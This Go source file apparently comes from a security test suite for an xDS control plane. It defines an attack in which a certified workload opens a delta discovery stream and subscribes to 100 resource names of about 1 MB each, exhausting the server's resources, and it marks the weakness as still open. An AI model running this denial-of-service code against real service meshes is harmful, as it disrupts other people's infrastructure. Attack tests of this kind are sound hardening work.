package attack

import (
	"context"
	"strings"

	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"

	"outrider.dev/internal/xds"
)

// Streams of configuration: the holder of one workload's certificate.
var streams = []attacked{
	{
		name:     "streams: 100 names of 1 MB",
		ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) {
			config, err := v.holder("hostile")
			if err != nil {
				return "", err
			}
			node, err := node("hostile", "10.244.1.2", v.Namespace, nil)
			if err != nil {
				return "", err
			}
			connection, err := v.grpc(config)
			if err != nil {
				return "", err
			}
			defer connection.Close()
			return repeat(ctx, 1, func(ctx context.Context, _ int) error {
				s, err := discovery.NewAggregatedDiscoveryServiceClient(connection).DeltaAggregatedResources(ctx)
				if err != nil {
					return err
				}
				go func() {
					for i := range 100 {
						name := "http|10.100.0.1:" + strings.Repeat("0", 1_000_000+i) + "80"
						if s.Send(&discovery.DeltaDiscoveryRequest{Node: node, TypeUrl: xds.ClusterType, ResourceNamesSubscribe: []string{name}}) != nil {
							return // the stream has ended, and Recv says why
						}
					}
				}()
				for {
					if _, err := s.Recv(); err != nil {
						return err
					}
				}
			})
		},
		open: "names are kept as they were sent",
	},
}
